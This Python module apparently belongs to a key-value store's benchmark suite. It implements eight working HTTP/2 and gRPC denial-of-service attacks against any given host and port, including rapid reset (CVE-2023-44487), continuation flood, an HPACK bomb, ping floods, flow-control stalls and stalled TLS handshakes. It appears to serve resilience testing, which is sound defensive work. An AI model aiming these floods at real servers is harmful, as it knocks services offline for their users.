"""Clients that mean harm. `python -m benchmarks.attacks NAME HOST:PORT` carries one attack out.

It prints one line of JSON: whether the server closed the connection or holds it, and how many
seconds that took from the first harmful byte. Then it keeps what is open until its input ends.
"""

import asyncio
import contextlib
import json
import resource
import socket
import ssl
import sys
import time
from collections.abc import Awaitable, Callable

from kvstore.http2 import frames, hpack, protocol
from kvstore.http2 import grpc as grpc_frames
from kvstore.pb import rpc_pb2

RANGE, WATCH = b"/etcdserverpb.KV/Range", b"/etcdserverpb.Watch/Watch"
VALUE_PREFIX = b"hostile/"
IDLE_CONNECTIONS, IDLE_STREAMS = 1_000, 100
SILENT_CONNECTIONS = 500
STALLED_REQUESTS = 20_000
_CLIENT_HELLO_BEGUN = b"\x16\x03\x01\x02\x00\x01"
_QUIET_SECONDS = 0.5  # who says nothing for so long has said what it has to say


class Raw:
    """A connection whose bytes are the attack's."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._next_id = 1
        self.is_closed = False

    @classmethod
    async def open(
        cls,
        endpoint: str,
        *settings: tuple[protocol.SettingCode, int],
        greets: bool = True,
        tls: ssl.SSLContext | None = None,
    ) -> "Raw":
        """Connect, and say hello as HTTP/2 clients do."""
        host, _, port = endpoint.rpartition(":")
        raw = cls(*await asyncio.open_connection(host, int(port), ssl=tls))
        if greets:
            await raw.send(protocol.PREFACE, frames.settings(settings))
        return raw

    async def send(self, *data: bytes) -> None:
        """Write; a connection that is gone takes everything."""
        self._writer.write(b"".join(data))
        try:
            await self._writer.drain()
        except ConnectionError:
            self.is_closed = True

    def call(self, path: bytes, *, ends: bytes | None = None) -> bytes:
        """The frames of a call; `ends`: its one message."""
        stream_id, self._next_id = self._next_id, self._next_id + 2
        block = hpack.encode(
            [
                (b":method", b"POST"),
                (b":scheme", b"http"),
                (b":path", path),
                (b"content-type", b"application/grpc"),
            ]
        )
        head = frames.headers(stream_id, block, ends_stream=False)
        if ends is None:
            return head
        size = len(ends) + 5
        body = frames.frame(
            protocol.DATA, protocol.END_STREAM, stream_id, grpc_frames.prefixed(ends)
        )
        assert size < protocol.FRAME_BYTES_DEFAULT
        return head + body

    @property
    def last_id(self) -> int:
        """Of the newest call."""
        return self._next_id - 2

    async def closed(self) -> None:
        """Read until the server hangs up."""
        with contextlib.suppress(ConnectionError):
            while await self._reader.read(2**16):
                pass
        self.is_closed = True

    async def quiet(self) -> None:
        """Read until nothing comes any more."""
        with contextlib.suppress(TimeoutError, ConnectionError):
            while True:
                async with asyncio.timeout(_QUIET_SECONDS):
                    if not await self._reader.read(2**16):
                        self.is_closed = True
                        return


async def _flood(endpoint: str, make: Callable[[Raw], bytes]) -> str:
    """Send the same harm again and again until the server hangs up."""
    raw = await Raw.open(endpoint)
    hung_up = asyncio.ensure_future(raw.closed())
    while not hung_up.done() and not raw.is_closed:
        await raw.send(make(raw))
        await asyncio.sleep(0)
    await hung_up
    return "closed"


async def rapid_reset(endpoint: str) -> str:
    """Calls that are reset before they are answered (CVE-2023-44487)."""

    def make(raw: Raw) -> bytes:
        request = rpc_pb2.RangeRequest(key=b"k").SerializeToString()
        return b"".join(
            raw.call(RANGE, ends=request) + frames.reset(raw.last_id, protocol.ErrorCode.CANCEL)
            for _ in range(100)
        )

    return await _flood(endpoint, make)


async def continuation_flood(endpoint: str) -> str:
    """A header block without end (CVE-2024-27316)."""
    begun = False

    def make(_: Raw) -> bytes:
        nonlocal begun
        more = frames.frame(protocol.CONTINUATION, 0, 1, b"\x82" * 100) * 10
        first, begun = b"" if begun else frames.frame(protocol.HEADERS, 0, 1), True
        return first + more

    return await _flood(endpoint, make)


async def hpack_bomb(endpoint: str) -> str:
    """A small block that stands for a long list (RFC 7541, 7.3)."""
    value = b"\x7f" + bytes((4_000 - 127 & 0x7F | 0x80, (4_000 - 127) >> 7)) + b"v" * 4_000
    block = b"\x40\x01x" + value + b"\xbe" * 10_000

    def make(raw: Raw) -> bytes:
        raw.call(RANGE)
        return frames.headers(raw.last_id, block, ends_stream=True)

    return await _flood(endpoint, make)


async def ping_flood(endpoint: str) -> str:
    """Pings, each of which costs an answer."""
    return await _flood(endpoint, lambda _: frames.ping(bytes(8), is_ack=False) * 100)


async def window_stall(endpoint: str) -> str:
    """Asks for much, and gives no window for the answers."""
    raw = await Raw.open(endpoint, (protocol.SettingCode.INITIAL_WINDOW_SIZE, 0))
    request = rpc_pb2.RangeRequest(key=VALUE_PREFIX, range_end=b"hostile0").SerializeToString()
    reading = asyncio.ensure_future(raw.closed())
    for _ in range(STALLED_REQUESTS // 100):
        if raw.is_closed:
            break
        await raw.send(*(raw.call(RANGE, ends=request) for _ in range(100)))
    _keep(reading)
    return "closed" if raw.is_closed else "held"


async def idle_streams(endpoint: str) -> str:
    """Many connections with many streams that never ask for anything."""
    for _ in range(IDLE_CONNECTIONS):
        raw = await Raw.open(endpoint)
        await raw.send(*(raw.call(WATCH) for _ in range(IDLE_STREAMS)))
        _keep(raw)
    return "held"


async def slow_reader(endpoint: str) -> str:
    """Asks for a flood of answers with windows without end, and reads none of them."""
    host, _, port = endpoint.rpartition(":")
    taker = socket.socket()
    taker.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 * 1024)
    taker.connect((host, int(port)))
    code = protocol.SettingCode.INITIAL_WINDOW_SIZE
    taker.sendall(
        protocol.PREFACE
        + frames.settings(((code, protocol.WINDOW_MAX),))
        + frames.window_update(0, protocol.WINDOW_MAX - protocol.WINDOW_DEFAULT)
    )
    taker.setblocking(False)
    raw = await Raw.open(endpoint)  # only to number the calls
    request = rpc_pb2.RangeRequest(key=VALUE_PREFIX, range_end=b"hostile0").SerializeToString()
    loop = asyncio.get_running_loop()
    how = "held"
    for _ in range(STALLED_REQUESTS // 10):
        try:
            async with asyncio.timeout(_QUIET_SECONDS):
                await loop.sock_sendall(taker, raw.call(RANGE, ends=request))
        except TimeoutError:
            break  # the server takes no more of us
        except ConnectionError:
            how = "closed"
            break
    _keep(taker)
    return how


async def silent_tls(endpoint: str) -> str:
    """TLS handshakes that stand still."""
    for _ in range(SILENT_CONNECTIONS):
        raw = await Raw.open(endpoint, greets=False)
        await raw.send(_CLIENT_HELLO_BEGUN)
        _keep(raw)
    return "held"


ATTACKS: dict[str, Callable[[str], Awaitable[str]]] = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "hpack-bomb": hpack_bomb,
    "ping-flood": ping_flood,
    "window-stall": window_stall,
    "idle-streams": idle_streams,
    "slow-reader": slow_reader,
    "silent-tls": silent_tls,
}

_kept: list[object] = []


def _keep(thing: object) -> None:
    """Let a connection stay open for as long as this process lives."""
    _kept.append(thing)


async def _carry_out(name: str, endpoint: str) -> None:
    began = time.monotonic()
    how = await ATTACKS[name](endpoint)
    print(json.dumps({"how": how, "seconds": time.monotonic() - began}), flush=True)
    await asyncio.to_thread(sys.stdin.read)


def main() -> None:
    """Carry out what the command line says."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(_carry_out(sys.argv[1], sys.argv[2]))


if __name__ == "__main__":
    main()
